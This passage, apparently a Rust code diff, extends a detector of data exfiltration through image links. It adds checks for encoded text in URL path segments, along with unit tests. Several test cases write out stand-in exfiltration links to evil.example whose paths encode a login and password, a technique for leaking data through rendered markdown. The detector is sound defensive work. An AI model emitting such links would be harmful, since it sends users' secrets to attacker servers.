@@ -187,10 +187,29 @@ fn find_inline(text: &str, found: Found<'_>) {
     }
 }
 
-/// Whether the address of another server carries data in its query.
+/// Whether the address of another server carries data in its query or in its path.
 fn carries_data(url: &str) -> bool {
-    let is_remote = begins_with(url, "http") || url.starts_with("//");
-    is_remote && url.split_once('?').is_some_and(|(_, query)| query.split('&').any(carries))
+    if !begins_with(url, "http") && !url.starts_with("//") {
+        return false;
+    }
+    let (path, query) = url.split_once('?').unwrap_or((url, ""));
+    query.split('&').any(carries) || path.split('/').any(is_encoded_text)
+}
+
+/// Characters of a part of a path that carries data. Shorter ones are often names.
+const MIN_SEGMENT_BYTES: usize = 32;
+
+/// Bytes of the end of a file's name.
+const MAX_EXTENSION_BYTES: usize = 5;
+
+/// Whether a part of a path is an encoded text, with or without the end of a file's name.
+fn is_encoded_text(segment: &str) -> bool {
+    if segment.len() < MIN_SEGMENT_BYTES {
+        return false;
+    }
+    let (name, extension) = segment.split_once('.').unwrap_or((segment, ""));
+    let (name, _) = escapes::decode(name, PERCENT);
+    extension.len() <= MAX_EXTENSION_BYTES && name.len() >= MIN_SEGMENT_BYTES && is_readable(&name)
 }
 
 /// Capitals that are a placeholder.
@@ -211,16 +230,30 @@ fn carries(parameter: &str) -> bool {
     if placeholder || value.len() < MIN_DATA_BYTES {
         return placeholder;
     }
-    let percent = Escapes { percent: true, ..Escapes::default() };
-    let (value, _) = escapes::decode(value, percent);
+    let (value, _) = escapes::decode(value, PERCENT);
     let is_token =
         |byte: u8| is_word(byte) || matches!(byte, b'-' | b'.' | b'/' | b'+' | b'=' | b'~');
     if value.len() < MIN_DATA_BYTES || !value.bytes().all(is_token) {
         return value.len() >= MIN_DATA_BYTES && !value.contains('/');
     }
-    let value = value.trim_end_matches('=');
-    let bytes = binary::hexadecimal(value).or_else(|| binary::base64(value));
-    bytes.is_some_and(|bytes| str::from_utf8(&bytes).is_ok_and(|it| !it.contains(char::is_control)))
+    is_readable(&value)
+}
+
+const PERCENT: Escapes = Escapes { percent: true, entity: false, backslash: false };
+
+/// Beginnings of what image servers take: the address of a picture, its place in a bucket, and the code of a diagram.
+const FOR_SERVERS: [&str; 6] =
+    ["http://", "https://", "s3://", "gs://", "{\"bucket\":", "{\"code\":"];
+
+/// Whether something is readable when it is decoded, and is not what image servers take. Random bytes, as in a hash, are
+/// not readable.
+fn is_readable(encoded: &str) -> bool {
+    let encoded = encoded.trim_end_matches('=');
+    let bytes = binary::hexadecimal(encoded).or_else(|| binary::base64(encoded));
+    let text = bytes.as_deref().and_then(|bytes| str::from_utf8(bytes).ok());
+    text.is_some_and(|text| {
+        !text.contains(char::is_control) && !FOR_SERVERS.iter().any(|it| text.starts_with(it))
+    })
 }
 
 #[cfg(test)]
@@ -277,6 +310,22 @@ mod tests {
             ("<img src='/a.png?d=SECRET'> <img src=https://a.example/b.png>".to_owned(), None),
             ("![x][1]\n\n[1]: //evil.example/a?d=SECRET".to_owned(), Some(Detector::ImageWithData)),
             ("![x][2] [1]\n\n[1]: //evil.example/a?d=SECRET".to_owned(), None),
+            (
+                "![x](https://evil.example/bG9naW46IHBhdCwgcGFzc3dvcmQ6IGh1bnRlcjIsIG5leHQgYmlsbDogNDE.png)".to_owned(),
+                Some(Detector::ImageWithData),
+            ),
+            (
+                "<img src=//evil.example/p/6c6f67696e3a207061742c2070617373776f72643a2068756e74657232>".to_owned(),
+                Some(Detector::ImageWithData),
+            ),
+            // Hashes, and what image servers take.
+            ("![x](https://cdn.example/2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881.png)".to_owned(), None),
+            ("![x](https://cdn.example/EhtHdKdZkkopKcSkEvtuMbmqp0ZGaEDvzEp21pqUFJ4jZOOYPWRv6vqhtRF4XlyekK7cMNpqa-rVUg7MmcZiag)".to_owned(), None),
+            ("![x](https://camo.example/395df8f7c51f007019cb30201c49e884b46b92fa/68747470733a2f2f696d672e6578616d706c652f62616467652f6275696c642d70617373696e672e737667)".to_owned(), None),
+            ("![x](https://proxy.example/rs:fill:300:200/aHR0cHM6Ly9hLmV4YW1wbGUvcGljdHVyZXMvY2F0LmpwZw.webp)".to_owned(), None),
+            ("![x](https://pictures.example/eyJidWNrZXQiOiJwaWN0dXJlcyIsImtleSI6ImNhdC5qcGciLCJlZGl0cyI6eyJyZXNpemUiOnsid2lkdGgiOjMwMH19fQ)".to_owned(), None),
+            ("![x](https://diagram.example/img/eyJjb2RlIjoiZ3JhcGggVEQ7IEEtLT5CIiwibWVybWFpZCI6eyJ0aGVtZSI6ImRlZmF1bHQifX0)".to_owned(), None),
+            ("![x](https://cdn.example/screenshot-of-the-dashboard-2026-11-26.png)".to_owned(), None),
             // Signatures, tokens and names.
             (
                 "![x](https://a.example/x.png?X-Amz-Expires=300&X-Amz-Date=20261126T213144Z&X-Amz-Signature=\
